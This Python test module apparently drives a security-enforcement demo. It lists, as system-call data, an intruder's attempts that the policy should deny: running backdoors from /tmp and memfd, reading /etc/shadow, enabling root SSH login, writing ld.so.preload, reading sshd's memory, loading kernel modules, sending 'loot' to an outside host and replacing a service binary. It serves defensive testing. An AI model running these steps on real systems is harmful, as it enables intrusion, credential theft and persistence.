"""What the intruder tries, as data. Every attempt is real, and is put right again if it succeeds."""

from __future__ import annotations

import os
import socket
import struct
from collections.abc import Iterator
from dataclasses import dataclass

from tests.demo.calls import Answer, Calls, Word
from tests.demo.world import (
    FOOTHOLD,
    IDENTITY,
    KEEP,
    LOGS,
    MODULE,
    NEXT,
    OUTSIDE,
    OUTSIDE_TCP,
    OUTSIDE_UDP,
    REDIS,
    SECRET,
    SECRET_TEXT,
    SERVICE,
    SSHD,
)

AT_FDCWD, AT_EMPTY_PATH, MFD_CLOEXEC = -100, 0x1000, 1
PTRACE_ATTACH, PTRACE_DETACH, WAIT_ALL = 16, 17, 0x40000000
PROT_READ, PROT_WRITE, PROT_EXEC, PRIVATE_ANONYMOUS = 1, 2, 4, 0x22
MSG_FASTOPEN = 0x20000000
APPENDING = os.O_WRONLY | os.O_CREAT | os.O_APPEND


@dataclass(frozen=True)
class Attempt:
    """One thing that the intruder tries. `judged` is the call that matters; those before it only prepare.

    A denial counts if its event is of this subject, one of these operations, on one of these things: a path,
    an address, an identity, a capability. No things: whatever it was.
    """

    step: int
    what: str
    operations: frozenset[str]
    things: tuple[str, ...]
    calls: Calls | None = None
    judged: int = 0
    shell: str = ""
    """Instead of calls: a command in a login of somebody outside; it prints errno."""
    subject: str = IDENTITY
    reads: str = ""
    """What it learns if it succeeds; for calls, what is found in a buffer or printed by the new program."""
    sends: str = ""
    """What arrives outside if it succeeds."""
    undo: str = ""
    """Puts right what it did."""

    def shows(self, answer: Answer) -> bool:
        """Whether what it learned is there."""
        return not self.reads or self.reads.encode() in b"".join((*answer.outputs, answer.said))


@dataclass(frozen=True)
class Target:
    """What the intruder has found out about the host."""

    foothold: bytes
    """The program that he brings along."""
    module: bytes
    redis: int
    """Process id."""
    sshd: int
    """Process id: it runs as root, like the service, and has the host's keys in its memory."""
    memory: int = 0x400000
    """An address in sshd's memory; `memory_map` shows a better one."""


def attempts(target: Target) -> Iterator[Attempt]:
    """All of them, in order. The last ones of step 8 want `target.memory`, see `memory_map`."""
    yield from _backdoors(target)
    yield from _reading()
    yield from _configuration()
    yield from _processes(target)
    yield from _module(target)
    yield from _outward()
    yield _scan()
    yield from _binary()
    yield from _code()


def _on(*operations: str) -> frozenset[str]:
    return frozenset(operations)


def _log(name: str) -> str:
    return f"{LOGS}/{name}.log"


def _write(calls: Calls, path: str, content: bytes, flags: int = APPENDING, mode: int = 0o644) -> Word:
    """Calls 0 to 2: a file with this content; gives the buffer with its path."""
    name = calls.text(path)
    file = calls.call("open", name, flags, mode)
    calls.call("write", file, calls.data(content), len(content))
    calls.call("close", file)
    return name


def _backdoors(target: Target) -> Iterator[Attempt]:
    calls = Calls()
    path = "/tmp/.backdoor"
    _write(calls, path, target.foothold, os.O_WRONLY | os.O_CREAT, 0o755)
    yield Attempt(1, "drops a backdoor into /tmp", _on("create"), (path,), calls, undo=f"rm -f {path}")

    calls = Calls(child=True)
    memory = calls.call("memfd_create", calls.text("backdoor"), MFD_CLOEXEC)
    calls.call("write", memory, calls.data(target.foothold), len(target.foothold))
    empty = calls.text("")
    calls.call("execveat", memory, empty, calls.words(empty, 0), 0, AT_EMPTY_PATH)
    yield Attempt(
        1, "runs a backdoor from memory (memfd)", _on("exec"), (), calls, judged=2, reads="runs as uid 0"
    )

    calls = Calls()
    path = _log("backdoor")
    name = _write(calls, path, target.foothold)
    calls.call("chmod", name, 0o755)
    yield Attempt(
        2, "makes a backdoor among its logs executable", _on("chmod"), (path,), calls, 3, undo=f"rm {path}"
    )

    calls = Calls(child=True)
    path = _log("backdoor-2")
    name = _write(calls, path, target.foothold, mode=0o755)
    calls.call("execve", name, calls.words(name, 0), 0)
    yield Attempt(
        2,
        "runs a backdoor among its logs",
        _on("exec"),
        (path,),
        calls,
        3,
        reads="as uid 0",
        undo=f"rm {path}",
    )

    calls = Calls(child=True)
    shell, option, line = calls.text("/bin/sh"), calls.text("-c"), calls.text("echo shell of $(id -un)")
    calls.call("execve", shell, calls.words(shell, option, line, 0), 0)
    yield Attempt(3, "runs a shell", _on("exec"), ("/usr/bin/dash",), calls, reads="shell of root")


def _read(path: str) -> Calls:
    calls = Calls()
    file = calls.call("open", calls.text(path), os.O_RDONLY)
    calls.call("read", file, calls.room(1024), 1024)
    calls.call("close", file)
    return calls


def _reading() -> Iterator[Attempt]:
    yield Attempt(
        4, "reads another business's secret", _on("open"), (SECRET,), _read(SECRET), reads=SECRET_TEXT.strip()
    )
    yield Attempt(
        5, "reads the password hashes", _on("open"), ("/etc/shadow",), _read("/etc/shadow"), reads="root:"
    )


def _configuration() -> Iterator[Attempt]:
    path = "/etc/ssh/sshd_config"
    restore = f"cp -p {KEEP}/sshd_config {path}"
    calls = Calls()
    _write(calls, path, b"PermitRootLogin yes\n", os.O_WRONLY | os.O_APPEND)
    yield Attempt(6, "adds a line to sshd's configuration", _on("open"), (path,), calls, undo=restore)

    yield _rename_over(6, "replaces sshd's configuration", path, b"PermitRootLogin yes\n", restore)

    path = "/etc/ld.so.preload"
    calls = Calls()
    name = _write(calls, path, _log("backdoor").encode(), os.O_WRONLY | os.O_CREAT)
    calls.call("unlink", name)
    yield Attempt(7, "adds itself to ld.so.preload", _on("create"), (path,), calls, undo=f"rm -f {path}")


def _rename_over(step: int, what: str, path: str, content: bytes, undo: str) -> Attempt:
    calls = Calls()
    name = _write(calls, _log(f"new-{step}"), content)
    calls.call("rename", name, calls.text(path))
    return Attempt(step, what, _on("rename", "rename-to"), (path,), calls, judged=3, undo=undo)


def memory_map(target: Target) -> Attempt:
    """The part of step 8 that tells the next ones where to look."""
    path = f"/proc/{target.sshd}/maps"
    return Attempt(
        8, "looks where sshd's memory is", _on("open", "ptrace"), (path,), _read(path), reads="r--p"
    )


def _processes(target: Target) -> Iterator[Attempt]:
    calls = Calls()
    calls.call("ptrace", PTRACE_ATTACH, target.redis, 0, 0)
    calls.call("wait4", target.redis, calls.room(8), WAIT_ALL, 0)
    calls.call("ptrace", PTRACE_DETACH, target.redis, 0, 0)
    yield Attempt(8, "attaches to redis", _on("ptrace", "capable"), (REDIS, "sys_ptrace"), calls)

    yield memory_map(target)

    path = f"/proc/{target.sshd}/mem"
    calls = Calls()
    file = calls.call("open", calls.text(path), os.O_RDONLY)
    calls.call("pread", file, calls.room(64), 64, target.memory)
    calls.call("close", file)
    yield Attempt(
        8, "reads sshd's memory (/proc)", _on("open", "ptrace"), (path, SSHD), calls, reads="\x7fELF"
    )

    calls = Calls()
    here, there = calls.words(calls.room(64), 64), calls.words(target.memory, 64)
    calls.call("process_vm_readv", target.sshd, here, 1, there, 1, 0)
    yield Attempt(8, "reads sshd's memory (system call)", _on("ptrace"), (SSHD,), calls, reads="\x7fELF")


_LOADS = _on("module", "capable")
_AS_MODULE = ("module", "sys_module")


def _module(target: Target) -> Iterator[Attempt]:
    calls = Calls()
    file = calls.call("memfd_create", calls.text("module"), MFD_CLOEXEC)
    calls.call("write", file, calls.data(target.module), len(target.module))
    calls.call("finit_module", file, calls.text(""), 0)
    calls.call("close", file)
    yield Attempt(
        9, "loads a kernel module from a file", _LOADS, _AS_MODULE, calls, 2, undo=f"rmmod {MODULE}"
    )

    calls = Calls()
    calls.call("init_module", calls.data(target.module), len(target.module), calls.text(""))
    yield Attempt(9, "loads a kernel module from memory", _LOADS, _AS_MODULE, calls, undo=f"rmmod {MODULE}")


def _address(host: str, port: int) -> bytes:
    return struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)


def _outward() -> Iterator[Attempt]:
    calls = Calls()
    peer, loot = calls.data(_address(OUTSIDE, OUTSIDE_TCP)), b"loot over tcp"
    file = calls.call("socket", socket.AF_INET, socket.SOCK_STREAM, 0)
    calls.call("connect", file, peer, 16)
    calls.call("write", file, calls.data(loot), len(loot))
    calls.call("close", file)
    thing = f"{OUTSIDE}:{OUTSIDE_TCP}"
    yield Attempt(10, "connects outward (TCP)", _on("connect"), (thing,), calls, 1, sends=loot.decode())

    yield _send("connects outward with data (TCP fast open)", socket.SOCK_STREAM, OUTSIDE_TCP, MSG_FASTOPEN)
    yield _send("sends outward (UDP)", socket.SOCK_DGRAM, OUTSIDE_UDP, 0)


def _send(what: str, kind: int, port: int, flags: int) -> Attempt:
    calls = Calls()
    loot = f"loot by sendto, port {port}"
    peer = calls.data(_address(OUTSIDE, port))
    file = calls.call("socket", socket.AF_INET, kind, 0)
    calls.call("sendto", file, calls.text(loot), len(loot), flags, peer, 16)
    calls.call("close", file)
    return Attempt(10, what, _on("sendmsg"), (f"{OUTSIDE}:{port}",), calls, 1, sends=loot)


def _scan() -> Attempt:
    return Attempt(
        11,
        "a stolen login's own program scans redis's port",
        _on("connect"),
        ("127.0.0.1:6379",),
        shell=f"{FOOTHOLD} 127.0.0.1 6379",
        subject="unidentified",
        reads="6379 0",
    )


def _binary() -> Iterator[Attempt]:
    calls = Calls()
    _write(calls, NEXT, b"\0", os.O_WRONLY | os.O_APPEND)
    restore = f"cp -p {KEEP}/payments-api {SERVICE}"
    renew = f"cp -p {KEEP}/payments-api {NEXT}"
    yield Attempt(12, "alters the service's next release", _on("open"), (NEXT,), calls, undo=renew)

    calls = Calls()
    calls.call("unlink", calls.text(SERVICE))
    yield Attempt(12, "removes the service's program", _on("unlink"), (SERVICE,), calls, undo=restore)

    yield _rename_over(12, "replaces the service's program", SERVICE, b"#!/bin/sh\n", restore)


def _code() -> Iterator[Attempt]:
    anywhere = (PRIVATE_ANONYMOUS, -1, 0)
    calls = Calls()
    memory = calls.call("mmap", 0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, *anywhere)
    calls.call("munmap", memory, 4096)
    yield Attempt(13, "maps memory for its own code", _on("mmap"), (), calls)

    calls = Calls()
    memory = calls.call("mmap", 0, 4096, PROT_READ | PROT_WRITE, *anywhere)
    calls.call("mprotect", memory, 4096, PROT_READ | PROT_EXEC)
    calls.call("munmap", memory, 4096)
    yield Attempt(13, "makes memory that it wrote executable", _on("mprotect"), (), calls, judged=1)
